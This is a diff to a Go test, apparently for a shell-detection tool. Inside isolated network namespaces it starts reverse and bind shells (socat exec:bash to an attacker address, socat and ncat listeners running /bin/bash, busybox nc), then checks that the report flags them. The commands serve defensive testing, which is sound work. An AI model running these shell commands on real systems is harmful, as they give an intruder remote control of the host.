@@ -110,7 +110,10 @@ func TestShellsOneHopFromASocket(t *testing.T) {
 	run(bed.Public, never, "openssl", "s_server", "-quiet", "-accept", attacker+":4504", "-key", "k.pem", "-cert", "c.pem")
 	waitListening(t, bed.Public, netip.AddrPortFrom(peer, 4504))
 
-	socatPTY := run(bed.Server, nil, "socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:"+attacker+":4501")
+	// Every bash here skips the rc files: root's may run slow set-up (a
+	// pyenv rehash, with a lock file) that ending the bed mid-way leaves
+	// behind.
+	socatPTY := run(bed.Server, nil, "socat", "exec:bash --noprofile --norc -i,pty,stderr,setsid,sigint,sane", "tcp:"+attacker+":4501")
 	socatBind := run(bed.Server, nil, "socat", "TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/bash")
 	ncatRev := run(bed.Server, nil, "ncat", "-e", "/bin/bash", attacker, "4502")
 	ncatBind := run(bed.Server, nil, "ncat", "-l", "-k", "4445", "-e", "/bin/bash")
@@ -145,7 +148,11 @@ func TestShellsOneHopFromASocket(t *testing.T) {
 	}
 	t.Cleanup(sshd.Stop)
 	waitListening(t, bed.Public, netip.AddrPortFrom(bed.ServerPublic4, uint16(sshd.Port)))
-	login := run(bed.Public, never, sshd.SSH(true, "bash", "-i")...)
+	login := run(bed.Public, never, sshd.SSH(true, "exec", "bash", "--noprofile", "--norc", "-i")...)
+	// sshd's own bash -c reads root's .bashrc first: wait until it is done.
+	if !sockettest.WaitFor(20*time.Second, func() bool { return runningCmdline("bash\x00--noprofile\x00--norc\x00-i") }) {
+		t.Fatalf("the SSH login's bash did not start: %s", stderrOf(login))
+	}
 	tmux := fmt.Sprintf("pw-shells-%d", os.Getpid())
 	run(bed.Server, nil, "tmux", "-L", tmux, "new-session", "-d", "busybox nc "+attacker+" 4505; sleep 300")
 	t.Cleanup(func() { exec.Command("ip", "netns", "exec", bed.Server.Name, "tmux", "-L", tmux, "kill-server").Run() })
@@ -233,7 +240,7 @@ func TestShellsOneHopFromASocket(t *testing.T) {
 		t.Fatal(err)
 	}
 	var check strings.Builder
-	if err := report.WriteCheck(&check, in.Judged, in.Raw, verdict.DefaultPolicy()); err != nil {
+	if err := report.WriteCheck(&check, in.Judged, report.Portless{Raw: in.Raw}, verdict.DefaultPolicy()); err != nil {
 		t.Fatal(err)
 	}
 	for _, word := range []string{"shell-near-socket", "kernel-name-mimic", "name-mismatch", "unexpected listeners"} {
@@ -268,4 +275,16 @@ func waitListening(t *testing.T, ns *sockettest.Namespace, ap netip.AddrPort) {
 	if !up {
 		t.Fatalf("nothing listens on %s", ap)
 	}
+}
+
+// runningCmdline reports whether a process runs with exactly this
+// command line (arguments NUL-separated).
+func runningCmdline(cmdline string) bool {
+	dirs, _ := os.ReadDir("/proc")
+	for _, d := range dirs {
+		if b, err := os.ReadFile("/proc/" + d.Name() + "/cmdline"); err == nil && strings.TrimRight(string(b), "\x00") == cmdline {
+			return true
+		}
+	}
+	return false
 }
